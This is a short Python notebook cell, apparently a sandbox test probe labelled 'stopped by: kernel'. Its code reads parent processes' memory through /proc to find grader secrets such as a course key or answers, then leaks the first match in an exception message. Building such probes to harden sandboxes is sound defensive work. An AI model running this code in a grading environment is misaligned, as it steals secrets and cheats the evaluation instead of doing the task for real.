# tries: searches the memory of the processes above it for the course key, the truth and other students' work
# gain: every secret the grader holds
# stopped by: kernel

# %% setup
import os, re
def search(pid):
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        memory = open(f"/proc/{pid}/mem", "rb", 0)
    except OSError:
        return []
    found, left = [], 2**27
    for line in maps:
        if "[heap]" in line or ("rw-p" in line and line.rstrip().endswith(" 0")):
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            if left > 0 and end - start < 2**26:
                left -= end - start
                try:
                    memory.seek(start)
                    found += re.findall(rb"SECRET-[0-9a-f]{8,}", memory.read(end - start))
                except (OSError, ValueError):
                    pass
    return found
pid, found = os.getpid(), []
for _ in range(2):
    try:
        pid = int(open(f"/proc/{pid}/status").read().split("PPid:")[1].split()[0])
    except OSError:
        break
    if pid > 1:
        found += search(pid)
if found:
    raise Exception("read " + found[0].decode())
